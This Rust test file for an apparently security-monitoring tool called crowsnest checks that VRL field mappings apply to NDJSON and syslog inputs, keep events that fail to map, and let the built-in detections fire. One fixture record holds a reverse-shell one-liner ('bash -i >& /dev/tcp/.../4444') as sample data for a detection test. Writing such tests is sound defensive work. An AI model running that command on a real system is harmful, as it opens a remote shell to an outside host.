//! User-defined mappings (`[[mappings]]`, VRL) on a real server: they run on every input (the
//! NDJSON endpoint and a syslog TCP listener here), make a shape no parser knows detectable,
//! keep an event a mapping fails on (with the reason) and count it; a program that does not
//! compile stops the server at start with the line; `crowsnest hunt --mapping` does the same
//! offline.

mod common;

use std::io::Write;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::{bin, free_port, Server};
use serde_json::Value;

/// An in-house sensor's process record: nothing in the parser registry knows `kind`/`cmd`/`ctr`.
const SENSOR_LINES: &str = concat!(
    r#"{"kind":"exec","cmd":"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1","pid":4242,"ctr":"shop-api","seq":1}"#,
    "\n",
    r#"{"kind":"exec","pid":4243,"ctr":"shop-api","seq":2}"#,
    "\n",
);

/// The mapping of that sensor: the second line has no `cmd`, so `string!` fails on it.
const SENSOR_VRL: &str = r#"# in-house sensor → ECS
if .kind == "exec" {
  .event.category = "process"
  .event.type = ["start"]
  .process.command_line = string!(.cmd)
  del(.cmd)
  .process.pid = del(.pid)
  .container.name = del(.ctr)
}
"#;

fn write(path: &Path, text: &str) {
    std::fs::write(path, text).unwrap_or_else(|e| panic!("writing {}: {e}", path.display()));
}

fn post_ndjson(server: &Server, source: &str, body: &str) -> Value {
    server
        .agent()
        .post(&format!(
            "{}/api/v1/ingest/ndjson?source={source}",
            server.url
        ))
        .set("Authorization", &format!("Bearer {}", server.token))
        .send_string(body)
        .expect("ingest")
        .into_json()
        .expect("json")
}

fn hits(result: &Value) -> Vec<Value> {
    result["hits"].as_array().cloned().unwrap_or_default()
}

#[test]
fn mappings_run_on_every_input_and_keep_what_fails() {
    let dir = tempfile::tempdir().expect("tempdir");
    let syslog_port = free_port();
    write(&dir.path().join("sensor.vrl"), SENSOR_VRL);
    let config = dir.path().join("crowsnest.toml");
    write(
        &config,
        &format!(
            r#"
[[inputs]]
type = "syslog"
transport = "tcp"
listen = "127.0.0.1:{syslog_port}"

[[mappings]]
name = "sensor"
datasets = ["acme.*"]
file = "sensor.vrl"

[[mappings]]
name = "kv"
datasets = ["syslog*"]
program = '''
kv, err = parse_key_value(.message)
if err == null {{
  .user.name = kv.user
  .source.ip = kv.src
  .event.action = kv.action
}}
'''
"#
        ),
    );
    let data = dir.path().join("data");
    let server = Server::start_with(
        &data,
        free_port(),
        &["--config".into(), config.display().to_string()],
    );

    // HTTP input.
    let answer = post_ndjson(&server, "acme.sensor", SENSOR_LINES);
    assert_eq!(answer["accepted"], 2, "{answer}");

    // A stream input: syslog over TCP, newline-framed.
    let deadline = Instant::now() + Duration::from_secs(30);
    let mut stream = loop {
        match std::net::TcpStream::connect(("127.0.0.1", syslog_port)) {
            Ok(stream) => break stream,
            Err(e) => {
                assert!(Instant::now() < deadline, "syslog listener: {e}");
                std::thread::sleep(Duration::from_millis(50));
            }
        }
    };
    stream
        .write_all(
            b"<13>1 2026-12-07T08:00:00Z web01 app 77 - - user=mallory src=198.51.100.9 action=login\n",
        )
        .expect("syslog send");
    drop(stream);

    // Wait for all three events to be searchable.
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        server.settle();
        let n = hits(&server.search("user.name:mallory")).len()
            + hits(&server.search("event.dataset:acme.sensor")).len();
        if n == 3 {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "events did not arrive ({n} of 3)"
        );
        std::thread::sleep(Duration::from_millis(200));
    }

    let syslog = hits(&server.search("user.name:mallory"));
    assert_eq!(syslog[0]["source"]["ip"], "198.51.100.9", "{}", syslog[0]);
    assert_eq!(syslog[0]["event"]["action"], "login");

    let mapped = hits(&server.search("process.pid:4242"));
    assert_eq!(mapped.len(), 1);
    let mapped = &mapped[0];
    assert_eq!(mapped["container"]["name"], "shop-api", "{mapped}");
    assert!(mapped["process"]["command_line"]
        .as_str()
        .is_some_and(|c| c.contains("/dev/tcp/")));
    assert!(mapped.get("cmd").is_none() && mapped.get("ctr").is_none());
    assert!(
        mapped["event"]["original"]
            .as_str()
            .is_some_and(|o| o.contains(r#""ctr":"shop-api""#)),
        "the original is kept as received: {mapped}"
    );

    // The line the mapping failed on is stored as it came, with the reason.
    let failed = hits(&server.search("seq:2"));
    assert_eq!(failed.len(), 1);
    let failed = &failed[0];
    assert_eq!(failed["pid"], 4243, "unchanged: {failed}");
    let reason = failed["crowsnest"]["mapping_error"].as_str().unwrap_or("");
    assert!(reason.starts_with("sensor, line 5, column "), "{reason}");

    // The mapped process event is detected by the built-in pack.
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let alerts = server.get("/api/v1/alerts").expect("alerts").to_string();
        if alerts.contains("Reverse Shell Through /dev/tcp") {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "no reverse-shell alert: {alerts}"
        );
        std::thread::sleep(Duration::from_millis(200));
    }

    let metrics = server.metrics();
    assert!(
        metrics.contains(r#"crowsnest_mapping_failures_total{source="acme.sensor"} 1"#),
        "{}",
        metrics
            .lines()
            .filter(|l| l.contains("mapping"))
            .collect::<Vec<_>>()
            .join("\n")
    );
}

#[test]
fn a_mapping_that_does_not_compile_stops_the_server_with_the_line() {
    let dir = tempfile::tempdir().expect("tempdir");
    let config = dir.path().join("crowsnest.toml");
    write(
        &config,
        "[[mappings]]\nname = \"broken\"\nprogram = '''\n.a = 1\n.b = parse_json(.message)\n'''\n",
    );
    let output = Command::new(bin())
        .args(["server", "--listen", &format!("127.0.0.1:{}", free_port())])
        .arg("--data-dir")
        .arg(dir.path().join("data"))
        .arg("--config")
        .arg(&config)
        .env("CROWSNEST_LOG", "warn")
        .stdin(Stdio::null())
        .output()
        .expect("run server");
    assert!(!output.status.success());
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("mapping `broken`"), "{stderr}");
    assert!(stderr.contains("does not compile"), "{stderr}");
    assert!(stderr.contains("parse_json"), "{stderr}");
}

#[test]
fn hunt_applies_a_mapping_file() {
    let dir = tempfile::tempdir().expect("tempdir");
    let events = dir.path().join("sensor.ndjson");
    write(&events, SENSOR_LINES);
    let program = dir.path().join("sensor.vrl");
    write(&program, SENSOR_VRL);

    let hunt = |extra: &[&str]| {
        let output = Command::new(bin())
            .arg("hunt")
            .args(extra)
            .arg(&events)
            .env("CROWSNEST_LOG", "warn")
            .stdin(Stdio::null())
            .output()
            .expect("hunt");
        (
            output.status.success(),
            String::from_utf8_lossy(&output.stdout).into_owned(),
            String::from_utf8_lossy(&output.stderr).into_owned(),
        )
    };
    let (ok, stdout, _) = hunt(&[]);
    assert!(ok);
    assert!(
        !stdout.contains("Reverse Shell"),
        "unmapped, nothing can see it: {stdout}"
    );
    let program_arg = program.display().to_string();
    let (ok, stdout, stderr) = hunt(&["--mapping", &program_arg]);
    assert!(ok, "{stderr}");
    assert!(
        stdout.contains("Reverse Shell Through /dev/tcp"),
        "{stdout}"
    );
    assert!(
        stderr.contains("event 2: mapping sensor, line 5"),
        "the failed event is named: {stderr}"
    );

    // A TOML file with [[mappings]] (a server configuration works too).
    let toml = dir.path().join("mappings.toml");
    write(
        &toml,
        "[[mappings]]\nname = \"sensor\"\ndatasets = [\"ndjson\"]\nfile = \"sensor.vrl\"\n",
    );
    let toml_arg = toml.display().to_string();
    let (ok, stdout, stderr) = hunt(&["--mapping", &toml_arg]);
    assert!(ok, "{stderr}");
    assert!(
        stdout.contains("Reverse Shell Through /dev/tcp"),
        "{stdout}"
    );

    let bad = dir.path().join("bad.vrl");
    write(&bad, ".x = 1\n.y = to_int(.x) +\n");
    let bad_arg = bad.display().to_string();
    let (ok, _, stderr) = hunt(&["--mapping", &bad_arg]);
    assert!(!ok);
    assert!(stderr.contains("mapping `bad`"), "{stderr}");
}
